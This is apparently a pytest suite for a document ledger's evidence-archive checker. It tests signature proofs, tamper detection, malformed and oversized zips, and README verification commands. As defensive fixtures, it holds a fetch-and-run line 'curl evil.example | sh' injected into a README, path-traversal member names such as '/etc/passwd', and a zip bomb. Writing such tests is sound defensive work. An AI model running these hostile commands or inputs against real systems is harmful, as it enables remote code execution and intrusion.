"""A case proves what it says from the ledger's public key alone, and names each part that was touched."""

from __future__ import annotations

import io
import re
import subprocess
import zipfile
from dataclasses import replace
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.ledger.archive import CASE_BYTES_MAX, MEMBERS_MAX, pack, unpack
from gateway.ledger.case import Case
from gateway.ledger.check import check_case
from gateway.ledger.entry import ENTRY_FIELDS, Entry, EntryKind
from gateway.ledger.examination import write_report
from gateway.ledger.fault import Fault, ProofError
from gateway.ledger.readme import readme
from gateway.ledger.receipt import ReceiptFacts, write_receipt
from gateway.ledger.report import CaseReport, Statement
from gateway.model.words import LANGUAGES, text
from gateway.trust import countersign
from tests.ledger.cases import (
    ACCEPTED,
    ACKNOWLEDGED,
    AT,
    ATTACHMENTS,
    DELIVERED,
    DELIVERY,
    DISPATCH,
    LOG,
    OTHER,
    acceptance,
    changed,
    examined,
    facts,
    outcome,
    proven,
    sealed,
    sha,
    whole,
    written,
)
from tests.ledger.ledgers import flipped, note_signer
from tests.outside import require
from tests.pki import pki
from tests.trust import sample

ENTRY, PROOF = f"entries/{ACCEPTED}.txt", f"entries/{ACCEPTED}.tlog-proof"
PACKET = ("packet/envelope.edxml", "packet/attachments/01", "packet/attachments/02")
EVENTS = tuple(
    f"evidence/{name}.xml"
    for name in (
        "17-ContentConsignment", "17-SubmissionAcceptance", "40-ContentHandover", "41-ConsignmentAcceptance",
        "41-ContentHandover",
    )
)  # fmt: skip
EVIDENCE = (
    "page.html",
    "README.txt",
    "checkpoint",
    *(f"entries/{index}.{kind}" for index in (ACCEPTED, DELIVERED, ACKNOWLEDGED) for kind in ("txt", "tlog-proof")),
    *EVENTS,
    "receipt.xml",
    "report.xml",
    "gateway.pem",
    "sender.pem",
)
CONTAINER = ("META-INF/manifest.xml", "META-INF/signatures.xml")


def check(case: Case | bytes) -> CaseReport:
    """The report on a case; every sentence in it can be said in both languages."""
    report = check_case(case if isinstance(case, bytes) else written(case), LOG.key.vkey)
    for lang in LANGUAGES:
        assert all(one.text(lang) for one in (*report.proven, *report.proven_in_short, *report.unproven))
        assert all(one.text(lang) for one in report.wrong)
    return report


def members(case: Case | None = None) -> dict[str, bytes]:
    return unpack(written(case or whole()))


def faults(report: CaseReport) -> dict[str, Fault]:
    return {one.member: one.fault for one in report.wrong}


def codes(statements: tuple[Statement, ...]) -> list[str]:
    return [one.code.partition(".")[2] for one in statements]


def case_of(stated: ReceiptFacts, said: ReceiptFacts | None = None, *later: Entry) -> Case:
    """A case whose receipt states the one and whose entry says the other, and what happened later."""
    receipt_xml = countersign(write_receipt(stated), pki().gateway.signer, AT)
    return changed(proven(acceptance(said or stated, receipt_xml), *later), receipt_xml=receipt_xml)


def test_a_whole_case_proves_everything_in_it() -> None:
    report = check(whole())
    assert report.holds
    assert codes(report.proven) == [
        "checkpoint", "accept", "deliver", "acknowledge", *["evidence"] * 5, "receipt", "report", "attachment",
        "attachment", "packet", "seal", "container",
    ]  # fmt: skip
    assert codes(report.unproven) == ["delivery", "reading", "authority", "authority", "clock", "one_ledger"]
    assert report.receipt == facts(sealed(), sha(pki().p256.der))


def test_in_short_the_evidence_of_one_seal_is_one_statement_that_names_each_event_and_its_entries() -> None:
    """And nothing else of what is proven is left out, or told in another order."""
    report = check(whole())
    assert codes(report.proven_in_short) == [
        "checkpoint", "accept", "deliver", "acknowledge", "evidence_of_one_seal", "receipt", "report", "attachment",
        "attachment", "packet", "seal", "container",
    ]  # fmt: skip
    told = dict(next(one for one in report.proven_in_short if one.code == "proven.evidence_of_one_seal").values)
    each = [dict(one.values) for one in report.proven if one.code == "proven.evidence"]
    assert {one["subject"] for one in each} == {told["subject"]}
    listed = {event: numbers.split(", ") for event, numbers in re.findall(r"(\w+) \(([0-9, ]+)\)", told["events"])}
    assert sorted((event, number) for event, numbers in listed.items() for number in numbers) == sorted(
        (one["event"], one["index"]) for one in each
    )


def test_the_report_says_who_when_and_what_in_both_languages() -> None:
    report = check(whole())
    for lang in LANGUAGES:
        said = "\n".join(one.text(lang) for one in (*report.proven, *report.unproven))
        for fact in (
            LOG.key.name,
            "G22",
            "truc-van-phong",
            "H41.02",
            "2026-11-23T08:00:01.234567Z",
            "Bộ Kiểm thử P-256",
        ):
            assert fact in said


def test_a_case_of_the_receipt_alone_says_what_is_left_open() -> None:
    report = check(changed(whole(), envelope=None, entries=whole().entries[:1]))
    assert report.holds
    assert codes(report.proven) == ["checkpoint", "accept", *["evidence"] * 2, "receipt", "report", "container"]
    assert codes(report.unproven) == [
        "delivery", "delivery", "authority", "attachment", "attachment", "packet", "clock", "one_ledger",
    ]  # fmt: skip


def test_neither_a_reminder_nor_a_failed_attempt_proves_a_delivery() -> None:
    there = {"dispatch": DISPATCH, "delivery": DELIVERY, "addressee": "H41.02"}
    attempt = Entry.of(EntryKind.ATTEMPT, AT, **there, number="1", outcome="deferred")
    reminder = Entry.of(EntryKind.REMIND, AT, **there, what="receipt", level="1")
    report = check(case_of(facts(sealed(), sha(pki().p256.der)), None, attempt, reminder))
    assert report.holds
    assert {"attempt", "remind"} <= set(codes(report.proven))
    assert [dict(one.values) for one in report.unproven if one.code == "unproven.delivery"] == [
        {"addressee": "H41.02"},
        {"addressee": "H26"},
    ]


@pytest.mark.parametrize(
    "kind", [kind for kind, fields in ENTRY_FIELDS.items() if {"dispatch", "subject"} & set(fields)]
)
def test_every_entry_a_case_can_hold_has_its_sentence(kind: EntryKind) -> None:
    values = {**dict.fromkeys(ENTRY_FIELDS[kind], "x"), "index": "17", "at": "2026-11-23T08:00:01.234567Z"}
    for lang in LANGUAGES:
        assert "17" in text(lang, f"check.proven.{kind}", **values)


def test_an_unsealed_packet_rests_on_the_gateways_word() -> None:
    report = check(
        changed(case_of(facts(sample.document(), None)), envelope=sample.document(), attachments=ATTACHMENTS)
    )
    assert report.holds
    assert "packet" in codes(report.proven)
    assert "seal" not in codes(report.proven)
    assert "sender" in codes(report.unproven)


def test_the_same_case_gives_the_same_bytes_whatever_order_its_entries_come_in() -> None:
    case = whole()
    assert written(replace(case, entries=tuple(reversed(case.entries)))) == written(case)


def test_any_zip_program_opens_a_case() -> None:
    with zipfile.ZipFile(io.BytesIO(written(whole()))) as archive:
        assert archive.testzip() is None
        assert {name: archive.read(name) for name in archive.namelist()} == members()
        assert archive.namelist() == ["mimetype", *EVIDENCE, *PACKET, *CONTAINER]


@pytest.mark.parametrize("name", ["mimetype", *EVIDENCE, *PACKET, *CONTAINER])
def test_a_flipped_bit_in_any_member_is_named(name: str) -> None:
    """Eight places spread over each member; whatever rests on the member is not claimed."""
    good = members()
    for place in {len(good[name]) * eighth // 8 * 8 + eighth for eighth in range(8)}:
        report = check(pack({**good, name: flipped(good[name], min(place, len(good[name]) * 8 - 1))}))
        assert set(faults(report)) - {"entries/"} == {name}  # an acceptance not proven is none
        assert "rest" in codes(report.unproven)


@pytest.mark.parametrize(
    ("name", "fault"),
    [
        ("entries/40.txt", Fault.CASE_ENTRY_DIFFERS),
        ("receipt.xml", Fault.CASE_RECEIPT_DIFFERS),
        ("report.xml", Fault.CASE_REPORT_DIFFERS),
        ("sender.pem", Fault.CASE_CERTIFICATE),
        ("packet/envelope.edxml", Fault.CASE_PACKET_DIFFERS),
        ("packet/attachments/02", Fault.CASE_ATTACHMENT_DIFFERS),
    ],
)
def test_a_member_that_is_not_what_the_ledger_vouches_for_is_named(name: str, fault: Fault) -> None:
    good = members()
    assert faults(check(pack({**good, name: good[name] + b" "}))) == {name: fault}


def test_a_flipped_bit_anywhere_in_the_file_is_refused() -> None:
    data = written(changed(whole(), envelope=None, entries=whole().entries[:1]))
    for place in range(len(data)):
        assert not check_case(flipped(data, place * 8 + place % 8), LOG.key.vkey).holds


@pytest.mark.parametrize("name", [*EVIDENCE, *CONTAINER])
def test_a_missing_member_is_named(name: str) -> None:
    rest = members()
    del rest[name]
    named = faults(check(pack(rest)))
    assert named.pop(name) is Fault.CASE_MISSING
    assert named in ({}, {"entries/": Fault.CASE_NO_ACCEPTANCE})


@pytest.mark.parametrize("name", ["packet/envelope.edxml", "packet/attachments/01"])
def test_a_part_of_the_packet_may_be_left_out_by_who_seals_the_case_and_by_nobody_else(name: str) -> None:
    without = {"envelope": None} if "envelope" in name else {"attachments": (None, ATTACHMENTS[1])}
    report = check(changed(whole(), **without))
    assert report.holds
    assert codes(report.unproven).count("packet" if "envelope" in name else "attachment") >= 1
    rest = members()
    del rest[name]
    assert faults(check(pack(rest))) == {name: Fault.CASE_MISSING}


@pytest.mark.parametrize(
    "name",
    [
        "README", "readme.txt", "../README.txt", "/etc/passwd", "entries/", "entries/017.txt", "entries/x.txt",
        "entries/17.txt.exe", "packet/attachments/03", "packet/attachments/00", "packet/attachments/1",
        "packet\\envelope.edxml", "C:evil",
    ],
)  # fmt: skip
def test_a_member_no_case_has_is_named(name: str) -> None:
    assert faults(check(pack({**members(), name: b"x"}))) == {name: Fault.CASE_UNKNOWN}


def test_the_certificate_of_a_seal_that_does_not_exist_is_named() -> None:
    case = changed(case_of(facts(sample.document(), None)), envelope=sample.document())
    assert faults(check(pack({**members(case), "sender.pem": members()["sender.pem"]}))) == {
        "sender.pem": Fault.CASE_UNKNOWN
    }


def test_another_ledgers_key_proves_nothing() -> None:
    report = check_case(written(whole()), note_signer(seed=bytes([3]) * 32).key.vkey)
    assert faults(report) == {"checkpoint": Fault.NOTE_UNSIGNED}
    assert (report.proven, report.receipt) == ((), None)


def test_a_bad_key_is_the_callers_fault() -> None:
    with pytest.raises(ProofError) as refusal:
        check_case(written(whole()), "not a key")
    assert refusal.value.fault is Fault.KEY_FORM


def test_a_proof_of_another_entry_or_checkpoint_is_named() -> None:
    good, later = members(), members(proven(outcome(EntryKind.DELIVER)))
    for name, put in (
        (PROOF, good[f"entries/{DELIVERED}.tlog-proof"]),
        (PROOF, later[PROOF]),
    ):
        assert faults(check(pack({**good, name: put})))[name] is Fault.CASE_OTHER_CHECKPOINT


def test_an_entry_that_is_not_the_one_proven_is_named() -> None:
    good = members()
    forged = good[ENTRY].replace(b"sender: G22", b"sender: G09")
    report = check(pack({**good, ENTRY: forged}))
    assert faults(report)[ENTRY] is Fault.CASE_ENTRY_DIFFERS
    assert "accept" not in codes(report.proven)


def test_entries_of_another_dispatch_are_named() -> None:
    case = whole()
    accept = acceptance(facts(sealed(), sha(pki().p256.der)), case.papers.receipt_xml)
    strangers = {
        outcome(EntryKind.DELIVER, OTHER),
        Entry.of(EntryKind.PEER, AT, peer="x", change="added"),
        replace(accept, fields=(("dispatch", OTHER), *accept.fields[1:])),
        replace(accept, at=outcome(EntryKind.DELIVER).at),
    }
    for stranger in strangers:
        other = proven(accept, stranger)
        report = check(changed(other, receipt_xml=case.papers.receipt_xml))
        assert faults(report) == {f"entries/{DELIVERED}.txt": Fault.CASE_OTHER_DISPATCH}


def test_a_case_without_an_acceptance_proves_no_dispatch() -> None:
    good = members()
    for name in (ENTRY, PROOF):
        del good[name]
    report = check(pack(good))
    assert faults(report)["entries/"] is Fault.CASE_NO_ACCEPTANCE
    assert report.receipt is None


def test_a_receipt_sealed_by_somebody_else_is_named() -> None:
    """Entry and digests agree, as a gateway gone bad could write them; the seal is not its certificate's."""
    stated = facts(sealed(), sha(pki().p256.der))
    for receipt_xml in (countersign(write_receipt(stated), pki().stranger.signer, AT), write_receipt(stated)):
        case = changed(proven(acceptance(stated, receipt_xml)), receipt_xml=receipt_xml)
        assert faults(check(case)) == {"receipt.xml": Fault.CASE_RECEIPT_SEAL}


@pytest.mark.parametrize(
    ("field", "other"),
    [
        ("origin", {"origin": "another.example/ledger"}),
        ("at", {"admitted_at": outcome(EntryKind.DELIVER).at}),
        ("dispatch", {"dispatch_id": OTHER}),
        ("peer", {"peer": "x"}),
        ("sender", {"sender": "x"}),
        ("packet", {"packet_digest": "00" * 32}),
        ("seal_certificate", {"seal_certificate": None}),
        ("addressees", {"addressees": (("H26", "H26"),)}),
    ],
)
def test_a_receipt_that_contradicts_its_entry_is_named(field: str, other: dict[str, Any]) -> None:
    said = facts(sealed(), sha(pki().p256.der))
    report = check(case_of(replace(said, **other), said))
    assert faults(report) == {"receipt.xml": Fault.CASE_RECEIPT_CONTRADICTS}
    assert report.wrong[0].error.values == {"field": field}


def case_with_report(report_xml: bytes) -> Case:
    """A whole case whose acceptance names this report."""
    stated, receipt_xml = facts(sealed(), sha(pki().p256.der)), whole().papers.receipt_xml
    return changed(proven(acceptance(stated, receipt_xml, report_xml)), receipt_xml=receipt_xml, report_xml=report_xml)


def test_a_report_sealed_by_somebody_else_or_by_nobody_is_named() -> None:
    document = write_report(examined(facts(sealed(), None)))
    for report_xml in (countersign(document, pki().stranger.signer, AT), document):
        assert faults(check(case_with_report(report_xml))) == {"report.xml": Fault.CASE_REPORT_SEAL}


@pytest.mark.parametrize(
    ("field", "other"),
    [
        ("at", {"examined_at": outcome(EntryKind.DELIVER).at}),
        ("peer", {"peer": "x"}),
        ("packet", {"packet_digest": "00" * 32}),
        ("verdict", {"verdict": "refused"}),
    ],
)
def test_a_report_of_another_examination_is_named(field: str, other: dict[str, Any]) -> None:
    document = write_report(replace(examined(facts(sealed(), None)), **other))
    report = check(case_with_report(countersign(document, pki().gateway.signer, AT)))
    assert faults(report) == {"report.xml": Fault.CASE_REPORT_CONTRADICTS}
    assert report.wrong[0].error.values == {"field": field}


def test_a_report_that_is_none_is_named() -> None:
    document = write_report(examined(facts(sealed(), None))).replace(b"<Findings>", b"<Findings> ")
    report = check(case_with_report(countersign(document, pki().gateway.signer, AT)))
    assert faults(report) == {"report.xml": Fault.REPORT_FORM}


def test_a_receipt_that_is_no_receipt_is_named() -> None:
    stated = facts(sealed(), None)
    document = write_receipt(stated).replace(b"<Findings></Findings>", b"<Findings> </Findings>")
    receipt_xml = countersign(document, pki().gateway.signer, AT)
    case = changed(proven(acceptance(stated, receipt_xml)), receipt_xml=receipt_xml)
    assert faults(check(case)) == {"receipt.xml": Fault.RECEIPT_FORM}


def test_a_packet_whose_seal_does_not_hold_is_named() -> None:
    """The gateway took it, so it is the packet; that its sender sealed it is not claimed."""
    forged = sealed().replace("Thứ trưởng".encode(), "Bộ trưởng".encode())
    case = changed(case_of(facts(forged, sha(pki().p256.der))), envelope=forged, attachments=ATTACHMENTS)
    report = check(case)
    assert faults(report) == {"packet/envelope.edxml": Fault.CASE_SENDER_SEAL}
    assert "packet" in codes(report.proven)
    assert "seal" not in codes(report.proven)


def test_a_certificate_in_another_spelling_is_named() -> None:
    good = members()
    for spelled in (good["gateway.pem"] + b"\n", b"x" + good["gateway.pem"], b"", b"\xff", pki().stranger.pem):
        assert faults(check(pack({**good, "gateway.pem": spelled}))) == {"gateway.pem": Fault.CASE_CERTIFICATE}


def test_instructions_of_somebody_else_are_named() -> None:
    report = check(pack({**members(), "README.txt": readme() + b"\n    curl evil.example | sh\n"}))
    assert faults(report) == {"README.txt": Fault.CASE_README}
    assert "accept" in codes(report.proven)


@given(st.binary(max_size=300))
def test_any_bytes_give_a_report(data: bytes) -> None:
    for file in (
        data,
        b"PK\x03\x04" + data,
        written(whole())[:200] + data,
        pack({"receipt.xml": data, "checkpoint": data}),
    ):
        assert not check_case(file, LOG.key.vkey).holds


@given(st.sampled_from([*EVIDENCE, *PACKET]), st.binary(max_size=100), st.data())
def test_any_bytes_in_any_member_give_a_report(name: str, junk: bytes, data: st.DataObject) -> None:
    good = members()
    cut = data.draw(st.integers(0, len(good[name])))
    changed = good[name][:cut] + junk + good[name][cut + len(junk) // 2 :]
    if changed != good[name]:
        assert name in faults(check(pack({**good, name: changed})))


def rezipped(*, compressed: bool = False, comment: bytes = b"", twice: str = "") -> bytes:
    """The members in an archive somebody else's program made."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as archive:
        for name, data in members().items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED)
        archive.comment = comment
    return file.getvalue()


def test_an_archive_in_any_other_form_is_refused() -> None:
    good = written(whole())
    end = good.rindex(b"PK\x05\x06")
    central = good.index(b"PK\x01\x02")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("README.txt", bytes(10_000_000))
    for data in (
        rezipped(),
        rezipped(compressed=True),
        rezipped(comment=b"x"),
        bomb.getvalue(),
        b"",
        good[:-1],
        good + b"x",
        b"x" + good,
        good[:central] + b"hidden" + good[central:],
        good[:end] + b"hidden" + good[end:],
        good[:central],
        good[:end] + good[end:].replace(b"\0\0", b"\1\0", 1),
        good.replace(b"README.txt", b"README.TXT", 1),
    ):
        assert faults(check(data)) == {"": Fault.CASE_ARCHIVE}


def test_a_member_twice_is_refused() -> None:
    once = written(whole())
    header = once[: once.index(b"PK\x03\x04", 4)]
    assert faults(check(header + once)) == {"": Fault.CASE_DUPLICATE}


def test_an_archive_beyond_the_limits_is_refused() -> None:
    with pytest.raises(ProofError) as refusal:
        pack({f"{number}": b"" for number in range(MEMBERS_MAX + 1)})
    assert refusal.value.fault is Fault.CASE_TOO_LARGE
    with pytest.raises(ProofError) as refusal:
        written(changed(whole(), attachments=(bytes(CASE_BYTES_MAX),)))
    assert refusal.value.fault is Fault.CASE_TOO_LARGE
    assert faults(check(bytes(CASE_BYTES_MAX + 100))) == {"": Fault.CASE_TOO_LARGE}
    member = pack({"a": b""})[: -len(b"a") - 46 - 22]
    assert faults(check(member * (MEMBERS_MAX + 1))) == {"": Fault.CASE_DUPLICATE}


def test_what_could_steer_a_terminal_is_not_repeated() -> None:
    evil = replace(facts(sealed(), None), attachments=(("\x9b2J\u202ea\n", "00" * 32, 1),))
    report = check(case_of(evil))
    for said in (*report.proven, *report.unproven):
        assert said.text("vi").isprintable()


def test_the_instructions_of_this_case_format_never_change() -> None:
    """Old cases must check for ever: another README is another format version, kept beside this one."""
    digests = {whole: sha256(readme(whole)).hexdigest() for whole in (True, False)}
    assert digests == {
        True: "9b045c35ed5259e767af3b41018034c9f90f1c9e73d4208fbf8f7cd4afc38810",
        False: "62f72131f1e7f75350300ce62b2ffbd067d83860e5580e008bfc9954a57ce955",
    }


def run_readme(folder: Path, vkey: str = LOG.key.vkey) -> subprocess.CompletedProcess[str]:
    """Do what README.txt says: its indented lines, run by a shell in the folder, with the key filled in."""
    lines = (folder / "README.txt").read_text(encoding="utf-8").splitlines()
    script = "\n".join(line[4:] for line in lines if line.startswith("    "))
    assert script.count("VKEY='…'") == 1
    return subprocess.run(
        ["sh", "-e", "-c", script.replace("VKEY='…'", f"VKEY='{vkey}'")], cwd=folder, capture_output=True, text=True
    )


def unpacked(folder: Path, contents: dict[str, bytes]) -> Path:
    for name, data in contents.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return folder


@pytest.mark.oracle
def test_the_commands_in_the_readme_check_a_case_without_us(tmp_path: Path) -> None:
    for program in ("openssl", "sha256sum", "xmlsec1"):
        require(program)
    answer = run_readme(unpacked(tmp_path, members()))
    assert answer.returncode == 0, answer.stderr
    assert "Signature Verified Successfully" in answer.stdout
    for name in (
        ENTRY, f"entries/{DELIVERED}.txt", f"entries/{ACKNOWLEDGED}.txt", "receipt.xml", "gateway.der", "report.xml",
        "packet.txt", "packet/attachments/01", "packet/attachments/02", "sender.der",
    ):  # fmt: skip
        assert f"{name}: OK" in answer.stdout
    said = answer.stdout + answer.stderr
    assert said.count("SignedInfo References (ok/all): 2/2") == 2 + len(EVENTS)
    assert all(f"{name}: OK" in said for name in EVENTS)
    sealed_files = len(members()) - 1
    assert said.count(f"SignedInfo References (ok/all): {sealed_files + 1}/{sealed_files + 1}") == 1
    assert said.count("SignedInfo References (ok/all): 4/4") == 1
    assert "FAILED" not in said


@pytest.mark.oracle
@pytest.mark.parametrize(
    ("name", "change", "to"),
    [
        ("checkpoint", b"\n50\n", b"\n51\n"),
        (ENTRY, b"sender: G22", b"sender: G09"),
        ("receipt.xml", b"<Sender>G22", b"<Sender>G09"),
        ("report.xml", b'severity="warn"', b'severity="none"'),
        ("packet/envelope.edxml", "Thứ trưởng".encode(), "Bộ trưởng".encode()),
        ("packet/attachments/01", b"7816", b"7817"),
        ("page.html", b"<h1>", b"<h2>"),
        ("evidence/40-ContentHandover.xml", b"H41.02", b"H41.03"),
    ],
)
def test_the_commands_in_the_readme_find_what_was_tampered_with(
    tmp_path: Path, name: str, change: bytes, to: bytes
) -> None:
    for program in ("openssl", "sha256sum", "xmlsec1"):
        require(program)
    good = members()
    assert change in good[name]
    answer = run_readme(unpacked(tmp_path, {**good, name: good[name].replace(change, to, 1)}))
    said = answer.stdout + answer.stderr
    assert answer.returncode != 0 or "FAILED" in said
    assert "FAILED" in said or "Signature Verification Failure" in said


@pytest.mark.oracle
def test_the_commands_in_the_readme_refuse_another_key(tmp_path: Path) -> None:
    require("openssl")
    answer = run_readme(unpacked(tmp_path, members()), note_signer(seed=bytes([3]) * 32).key.vkey)
    assert answer.returncode != 0
    assert "Signature Verified Successfully" not in answer.stdout
